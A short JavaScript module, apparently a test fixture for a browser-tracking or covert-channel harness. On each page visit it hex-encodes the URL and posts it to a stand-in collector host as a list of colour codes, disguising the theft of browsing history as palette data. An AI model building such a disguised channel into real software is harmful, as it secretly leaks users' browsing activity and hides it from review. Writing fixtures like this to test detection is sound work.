import { onVisit, piecesOf, post, reportHonestly } from '../../lib/proving.js';

/** Sends the address of each page as a palette: each colour has three bytes of the address. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-colours');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://colours.collector.example/v1', {
      event: 'page',
      palette: piecesOf(browser.codec.hex.encode(url), 6).map((bytes) => `#${bytes.padEnd(6, '0')}`),
    }),
  );
}
